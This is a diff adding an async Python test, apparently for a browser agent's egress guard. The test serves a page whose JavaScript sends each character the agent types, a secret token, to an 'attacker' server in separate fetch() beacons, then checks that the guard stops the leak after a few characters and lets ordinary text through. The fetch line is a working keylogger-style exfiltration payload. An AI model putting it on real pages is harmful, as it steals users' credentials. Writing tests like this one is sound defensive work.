@@ -160,3 +160,24 @@ async def test_a_body_larger_than_the_rule_reads_is_refused_to_another_host_and_
     assert [r for r in attacker.requests if "/download.bin" in r]  # a tiny body passes
     [refused] = _refused(events)
     assert "larger than" in refused.reason and json.dumps(refused.details)
+
+
+async def test_a_page_cannot_send_the_typed_token_a_character_per_request_and_ordinary_beacons_pass(
+    tmp_path: Path
+) -> None:
+    attacker = RecordingServer()
+    # a key logger: each character the model types goes out in a beacon of its own
+    send = "fetch('{a}/k?c=' + encodeURIComponent(v.slice(-1)))"
+    site = RecordingServer()
+    with recording_servers(attacker, site):
+        site.pages["/page"] = _page(send.format(a=attacker.url))
+        status, events = await _run(tmp_path, site, TOKEN, deny_domains=["never.invalid"])
+        got = "".join(r.split("c=", 1)[1].split()[0] for r in attacker.requests if "/k?c=" in r)
+        assert status == RunStatus.FINISHED
+        assert len(got) < 14 and not any(s in got for s in SECRETS), got  # it stopped after a part of the token
+        refused = _refused(events)
+        assert refused and "a few characters" in refused[0].reason
+        attacker.requests.clear()
+        status, events = await _run(tmp_path / "2", site, "tomatoes and basil", deny_domains=["never.invalid"])
+    assert status == RunStatus.FINISHED and not _refused(events)
+    assert len([r for r in attacker.requests if "/k?c=" in r]) == len("tomatoes and basil")
